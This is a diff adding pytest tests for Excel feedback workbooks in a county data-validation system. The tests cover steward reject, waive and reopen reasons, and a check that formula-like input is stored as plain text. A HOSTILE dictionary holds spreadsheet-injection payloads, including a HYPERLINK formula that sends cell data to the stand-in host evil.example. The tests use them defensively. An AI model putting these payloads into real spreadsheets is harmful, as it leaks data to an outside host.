@@ -244,3 +244,161 @@ def test_a_superseded_files_workbook_goes_with_it(county, tmp_path: Path) -> Non
 
     assert feedback.write_feedback_for_period(engine, "2020", tmp_path) == []
     assert not old.exists()
+
+
+# --- the steward's word, beside each issue ------------------------------------------------
+
+
+@pytest.fixture(params=["sqlite", "postgres"])
+def either(
+    request: pytest.FixtureRequest, tmp_path: Path
+) -> tuple[Settings, sa.Engine]:
+    """The county after ingest and validate, on a warehouse a test may change."""
+    if request.param == "sqlite":
+        return request.getfixturevalue("county")
+    new_postgres_url = request.getfixturevalue("new_postgres_url")
+    settings = Settings.from_env(warehouse_url=new_postgres_url(), data_dir=tmp_path / "data")
+    return settings, _submit_and_validate(settings)
+
+
+REJECTED_BECAUSE = "星级应为0–10,请核实后重报 / a star rating is 0–10: check it and resubmit"
+WAIVED_BECAUSE = "新建场所,面积已核实 / a new venue: the area was checked"
+REOPENED_BECAUSE = "误豁免,请改正占位符 / waived by mistake: replace the placeholder"
+
+
+def test_the_state_and_the_stewards_reason_stand_beside_each_issue(
+    either, tmp_path: Path
+) -> None:
+    settings, engine = either
+    review.reject(engine, _issue_id(engine, "star_rating"), "steward", REJECTED_BECAUSE)
+    review.waive(engine, _issue_id(engine, "venue_area"), "steward", WAIVED_BECAUSE)
+    members = _issue_id(engine, "party_members")
+    review.waive(engine, members, "steward", "先豁免 / waived first")
+    review.reopen(engine, members, "steward", REOPENED_BECAUSE)
+
+    path = feedback.write_feedback(engine, _submission_id(engine), tmp_path)
+
+    rows = list(load_workbook(path)[feedback.SUMMARY_SHEET].iter_rows(values_only=True))
+    header = next(row for row in rows if row[0] == "行号 Row")
+    assert header[7:10] == ("状态 State", "处理意见 Reason given", "处理时间 When")
+    table = {(row[0], row[1]): row for row in _issue_table(path)}
+    assert table[(3, "star_rating")][7:9] == ("已退回 rejected", REJECTED_BECAUSE)
+    assert table[(4, "venue_area")][7:9] == ("已豁免 waived", WAIVED_BECAUSE)
+    assert table[(2, "party_members")][7:9] == ("待处理 open", REOPENED_BECAUSE)  # the latest
+    assert all(table[key][9].endswith("北京时间") for key in table)
+
+    data = load_workbook(path)["data"]
+    star = _cell(data, 3, "star_rating").comment.text
+    assert "已退回 rejected" in star and REJECTED_BECAUSE in star
+    placeholder = _cell(data, 2, "party_members").comment.text
+    assert "待处理 open" in placeholder and REOPENED_BECAUSE in placeholder
+    assert "先豁免" not in placeholder
+
+
+def test_an_issue_no_steward_acted_on_says_so(county, tmp_path: Path) -> None:
+    settings, engine = county
+    path = feedback.write_feedback(engine, _submission_id(engine), tmp_path)
+
+    row = {(r[0], r[1]): r for r in _issue_table(path)}[(3, "star_rating")]
+    assert row[7:10] == ("待处理 open", "—", "—")
+
+
+# --- text typed by submitters (and stewards) stays text ------------------------------------
+
+HOSTILE = {
+    "equals": '=HYPERLINK("http://evil.example/?"&A1,"核对")',
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "carriage-return": "\r=1+1",
+    "error-code": "#N/A",
+}
+
+
+@pytest.fixture(scope="module")
+def built_postgres(
+    tmp_path_factory: pytest.TempPathFactory, new_postgres_url
+) -> tuple[Settings, sa.Engine]:
+    data = tmp_path_factory.mktemp("county-pg") / "data"
+    settings = Settings.from_env(warehouse_url=new_postgres_url(), data_dir=data)
+    return settings, _submit_and_validate(settings)
+
+
+def _plant(engine: sa.Engine, text: str) -> int:
+    """``text`` wherever the workbook takes text from outside: the file's name, the typed
+    values (staged, and kept on the issues), the messages and the steward's reasons; and a
+    negative number in a number column. Each plant overwrites the last. Returns the
+    submission's id."""
+    staged, s, i = wh.staging_tables["village_annual"], wh.submission.c, wh.validation_issue.c
+    now = datetime.now(UTC)
+    with engine.begin() as conn:
+        submission_id = conn.execute(
+            sa.select(s.submission_id).where(s.form_code == "village_annual")
+        ).scalar_one()
+        conn.execute(
+            staged.update()
+            .where(staged.c.submission_id == submission_id)
+            .values(unit_name=text, committee_members=-5)
+        )
+        conn.execute(
+            wh.submission.update()
+            .where(s.submission_id == submission_id)
+            .values(file_name=f"{text}__{NAME}")
+        )
+        ids = conn.execute(
+            sa.select(i.issue_id).where(i.submission_id == submission_id)
+        ).scalars().all()
+        conn.execute(
+            wh.validation_issue.update()
+            .where(i.submission_id == submission_id)
+            .values(value=text, message_zh=text, state="rejected", reason=text)
+        )
+        conn.execute(wh.validation_issue_event.insert(), [
+            {"issue_id": n, "at": now, "actor": "steward", "action": "reject",
+             "from_state": "open", "to_state": "rejected", "reason": text} for n in ids
+        ])
+    return submission_id
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+@pytest.mark.parametrize("warehouse", ["sqlite", "postgres"])
+def test_a_submitted_value_like_a_formula_is_text_in_the_feedback(
+    request: pytest.FixtureRequest, tmp_path: Path, warehouse: str, text: str
+) -> None:
+    fixture = "county" if warehouse == "sqlite" else "built_postgres"
+    settings, engine = request.getfixturevalue(fixture)
+    submission_id = _plant(engine, text)
+
+    path = feedback.write_feedback(engine, submission_id, tmp_path)
+
+    book = load_workbook(path)
+    summary, data = book[feedback.SUMMARY_SHEET], book["data"]
+    assert [c.coordinate for ws in book for row in ws.iter_rows() for c in row
+            if c.data_type in ("f", "e")] == []
+    file_cell = next(row[1] for row in summary.iter_rows() if row[0].value == "文件 File")
+    planted = [file_cell]
+    start = next(row[0].row for row in summary.iter_rows() if row[0].value == "行号 Row")
+    for row in summary.iter_rows(min_row=start + 1):
+        planted += [row[3], row[5], row[8]]  # the value typed, the message, the reason
+    names = [_cell(data, n, "unit_name") for n in (2, 3, 4)]
+    typed = [_cell(data, 2, "party_members")]  # failed cleaning: shown as typed
+    planted += names + typed
+    assert len(planted) == 1 + 3 * 3 + 3 + 1
+    trigger = text.startswith(("=", "+", "-", "@", "\t", "\r"))
+    for cell in planted:
+        expected = f"{text}__{NAME}" if cell is file_cell else text
+        assert (cell.value, cell.data_type) == (expected, "s"), cell.coordinate
+        assert cell.quotePrefix is trigger, cell.coordinate
+    comment = typed[0].comment.text
+    assert comment.count(text) >= 2  # the message and the steward's reason, as written
+    negative = _cell(data, 3, "committee_members")
+    assert (negative.value, negative.data_type) == (-5, "n")  # a number stays a number
+
+    from python_calamine import CalamineWorkbook
+
+    calamine = CalamineWorkbook.from_path(str(path))
+    rows = calamine.get_sheet_by_name(feedback.SUMMARY_SHEET).to_python()
+    assert [row[8] for row in rows[start:]] == [text] * 3
+    column = [c.value for c in data[1]].index("unit_name")
+    assert [row[column] for row in calamine.get_sheet_by_name("data").to_python()[2:]] == [text] * 3
